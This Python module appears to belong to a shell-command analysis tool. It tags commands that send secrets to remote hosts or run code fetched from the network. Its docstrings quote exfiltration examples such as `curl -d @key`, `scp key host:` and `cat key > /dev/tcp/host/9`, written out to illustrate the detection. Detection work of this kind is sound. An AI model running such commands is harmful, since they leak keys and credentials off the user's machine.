"""What one command hands to the next: a secret that would leave the machine, code that comes straight from the network.

A pipe, a substitution or a redirection carries what the commands before it read. Where that is a secret and the
command talks to another machine, its actions are marked `leaks`; where it comes from the network and is run, they
are marked `remote-code`. Both are marks only: what follows from them is the policy's business.
"""

from __future__ import annotations

from ...model.effects import Effect
from ...value import TYPE_CHECKING
from ..places.system_places import host_of, is_control_plane
from .origins import A_SECRET
from .words import NUL

if TYPE_CHECKING:
    from ...model.action import Action
    from .state import Shell
    from .words import Arg

__all__ = [
    "brings_from_elsewhere",
    "carry",
    "comes_from_elsewhere",
    "hand_out",
    "is_local",
    "is_own_server",
    "reads_secret",
    "send_back",
    "stays",
]


# A variable that is handed on, or a token: how their owner means them to be used.
_HANDED_ON = frozenset(("sys:env", "sys:token"))
# Actions that run what they are handed, and have not read it.
_RUNS = frozenset(("exec:code", "exec:script", "exec:stdin"))


def reads_secret(since: int, shell: Shell) -> bool:
    return any(_is_secret(action) for action in shell.found.actions[since:])


def _is_secret(action: Action) -> bool:
    """What is in a secret place, or printed from the environment: all of it, or a variable that holds a secret.

    A variable that is handed on is how its owner means it to be used.
    """
    if "environment" in action.tags:
        return "name" not in action.target or "secret" in action.tags
    return "secret" in action.tags and Effect.READ in action.effects and action.name not in _HANDED_ON


def carry(since: int, at: int, shell: Shell, args: list[Arg] | tuple[Arg, ...] = ()) -> None:
    """What the actions from `since` to `at` gave is handed to those from `at` on, and so is what `args` hold."""
    actions = shell.found.actions
    if len(actions) == at:
        return
    secret = remote = False
    for given in actions[since:at]:  # every command of a pipe pays for this: no generators
        if ("secret" in given.tags or "environment" in given.tags) and _is_secret(given):
            secret = True
        if Effect.NETWORK in given.effects:
            remote = True
    for arg in args:
        if arg.origin is not None and arg.origin == A_SECRET:
            secret = True
    if not secret and not remote:
        return
    for index in range(at, len(actions)):
        action = actions[index]
        marks = []
        if secret and Effect.NETWORK in action.effects and not stays(action.target.get("host")):
            marks.append("leaks")
        # A program that stands in the command is no less the person's for what it is fed, unless it runs that too.
        if remote and action.name in _RUNS and "unread" in action.tags and "inline" not in action.tags:
            marks.append("remote-code")
        if marks:
            actions[index] = action.replace(tags=tuple(sorted({*action.tags, *marks})))


def hand_out(since: int, shell: Shell) -> None:
    """`curl -d @key`, `scp key host:`: a command that sends a file which is secret."""
    actions = shell.found.actions
    if not shell.found.secret or not any("secret" in a.tags and "sends" in a.tags for a in actions[since:]):
        return
    for index in range(since, len(actions)):
        action = actions[index]
        if Effect.NETWORK in action.effects and not stays(action.target.get("host")):
            actions[index] = action.replace(tags=tuple(sorted({*action.tags, "leaks"})))


def send_back(since: int, at: int, shell: Shell) -> None:
    """`cat key > /dev/tcp/host/9`: the redirection stands before what it sends."""
    actions = shell.found.actions
    if not reads_secret(at, shell):
        return
    for index in range(since, at):
        action = actions[index]
        if Effect.NETWORK in action.effects and not stays(action.target.get("host")):
            actions[index] = action.replace(tags=tuple(sorted({*action.tags, "leaks"})))


def stays(host: object) -> bool:
    """True if the host is this machine: `localhost`, or an address that begins with 127 and has only numbers."""
    if host in ("localhost", "::1"):
        return True
    return type(host) is str and host.startswith("127.") and host.replace(".", "").isdecimal()


def comes_from_elsewhere(action: Action) -> bool:
    """Whether the action talks to another machine, which is named."""
    if Effect.NETWORK not in action.effects:
        return False
    host = action.target.get("host")
    return bool(host) and not stays(host)


def brings_from_elsewhere(since: int, shell: Shell) -> bool:
    """Whether one of the actions from there on does."""
    for action in shell.found.actions[since:]:  # every command of a pipe pays for this, and few talk to anybody
        if Effect.NETWORK in action.effects and comes_from_elsewhere(action):
            return True
    return False


_LOCAL = ("localhost", "127.0.0.1", "::1", "0.0.0.0")  # noqa: S104 - names of hosts, nothing is bound


def is_local(host: str) -> bool:
    return host.lower() in _LOCAL or host.lower().endswith(".localhost") or stays(host)


def is_own_server(url: str) -> bool:
    """True if the address is one of this machine, and none by which a daemon, a debugger or a database is told."""
    if NUL in url:
        return False
    host = host_of("http://" + (url.partition("://")[2] or url))
    return host is not None and is_local(host) and not is_control_plane(url)
